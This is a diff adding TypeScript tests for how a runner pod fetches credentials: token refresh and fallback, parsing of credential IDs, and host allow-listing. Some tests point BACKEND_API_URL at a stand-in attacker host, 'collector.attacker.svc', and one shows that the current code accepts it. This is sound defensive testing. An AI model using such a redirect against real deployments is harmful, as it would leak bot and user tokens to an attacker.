@@ -217,3 +217,89 @@ describe('the api-server in an SSO world', () => {
     expect(events.of('tool.result', turn).map((r) => r.actedAs)).toEqual([null])
   })
 })
+
+describe("the fetch's decisions in a control-plane pod", () => {
+  async function podAt(profile: ProfileName, session: string, env: Record<string, string | null> = {}, user = 'bob') {
+    const e = await start(profile)
+    const runner = e.runner('demo', session)
+    if (!runner) throw new Error('no runner')
+    const context = new RunnerContext(session, '/workspace')
+    context.setCurrentUser(user, '', '')
+    const copy = new Map(runner.env)
+    for (const [key, value] of Object.entries(env)) {
+      if (value === null) copy.delete(key)
+      else copy.set(key, value)
+    }
+    const pod = podOf(runner, { env: copy, context })
+    const events = recordEvents(e)
+    const fetched = () => events.of('runner.fetch').at(-1)
+    const logs = () => events.of('log').filter((l) => l.hop === 'runner').map((l) => `${l.level}: ${l.text}`)
+    const paths = () => events.of('http.request').filter((r) => r.from === 'runner').map((r) => new URL(r.url).pathname)
+    return { e, pod, fetched, logs, paths }
+  }
+
+  it('tells a retry that came back as a fallback, and says it refreshed from the control plane', async () => {
+    const { pod, fetched, logs } = await podAt('as-is', 'cp-1')
+    pod.cpToken.value = 'eyJ.stale.token-the-api-server-does-not-know'
+    await fetchCredential(pod, 'github')
+    expect(fetched()).toMatchObject({ status: 200, outcome: 'ok', fallback: true, auth: 'bot' })
+    expect(logs()).toContain('info: github got 401 with cached BOT_TOKEN — refreshing from CP endpoint and retrying')
+  })
+
+  it('when the token server refuses the refresh, logs why and denies with the first status', async () => {
+    const { pod, fetched, logs } = await podAt('as-is', 'cp-1', { AMBIENT_CP_TOKEN_PUBLIC_KEY: null })
+    pod.cpToken.value = 'eyJ.stale.token-the-api-server-does-not-know'
+    await expect(fetchCredential(pod, 'github')).rejects.toThrow(/^github authentication failed with HTTP 401$/)
+    expect(logs()).toContain('warning: github CP token refresh failed: AMBIENT_CP_TOKEN_PUBLIC_KEY env var is required when AMBIENT_CP_TOKEN_URL is set')
+    expect(fetched()).toMatchObject({ status: 401, outcome: 'denied' })
+  })
+
+  it('hardened: a retry the api-server refuses too is a PermissionError with its status', async () => {
+    const { pod, logs } = await podAt('hardened', 'cp-1')
+    // The retry names bob, whom the hardened api-server refuses alice's credential.
+    pod.cpToken.value = 'eyJ.stale.token-the-api-server-does-not-know'
+    await expect(fetchCredential(pod, 'github')).rejects.toThrow(/^github authentication failed with HTTP 403$/)
+    expect(logs()).toContain('warning: github retry with fresh BOT_TOKEN failed: HTTP Error 403')
+  })
+
+  it('takes an id of any JSON type as text, trims the project, and raises on CREDENTIAL_IDS that is no object', async () => {
+    const { pod, paths } = await podAt('as-is', 'cp-1', { CREDENTIAL_IDS: '{"github": 42}', PROJECT_NAME: '  demo  ' })
+    await fetchCredential(pod, 'github')
+    expect(paths()).toEqual(['/api/ambient/v1/projects/demo/credentials/42/token'])
+    for (const ids of ['[]', 'null', '"github"']) {
+      pod.env.set('CREDENTIAL_IDS', ids)
+      await expect(fetchCredential(pod, 'github'), ids).rejects.toThrow("CREDENTIAL_IDS is not a JSON object, so it has no attribute 'get'")
+    }
+  })
+
+  it('hardened allows the api-server only on its own port and only in a pod the control plane made', async () => {
+    const plain = await podAt('hardened', 'plain', { BACKEND_API_URL: API_SERVER_URL })
+    await fetchCredential(plain.pod, 'github')
+    expect(plain.fetched()).toMatchObject({ outcome: 'refused-host', fallback: false })
+    await plain.e.stop()
+    for (const base of ['http://ambient-api-server.ambient-code.svc:8080', 'http://collector.attacker.svc:8000']) {
+      const cp1 = await podAt('hardened', 'cp-1', { BACKEND_API_URL: base })
+      await fetchCredential(cp1.pod, 'github')
+      expect(cp1.fetched(), base).toMatchObject({ outcome: 'refused-host' })
+      await cp1.e.stop()
+    }
+  })
+})
+
+describe("the fetch's host and BOT token at HEAD, outside the control plane", () => {
+  it("R9b at HEAD takes any *.svc host, and a mounted BOT token file's trailing newline is not sent", async () => {
+    const e = await start('as-is')
+    const runner = e.runner('demo', 'plain')
+    if (!runner) throw new Error('no runner')
+    const context = new RunnerContext('plain', '/workspace')
+    context.setCurrentUser('alice', '', '')
+    const events = recordEvents(e)
+    const svc = podOf(runner, { env: new Map([...runner.env, ['BACKEND_API_URL', 'http://collector.attacker.svc/api']]), context })
+    await fetchCredential(svc, 'github')
+    expect(events.of('runner.fetch').at(-1)?.outcome).not.toBe('refused-host')
+    const token = (await runner.workspace.read('/var/run/secrets/ambient/bot-token')) ?? ''
+    await runner.workspace.write('/var/run/secrets/ambient/bot-token', `${token}\n`, 0o644)
+    await fetchCredential(podOf(runner, { context }), 'github')
+    expect(events.of('runner.fetch').at(-1)).toMatchObject({ auth: 'bot', status: 200, outcome: 'ok' })
+  })
+})
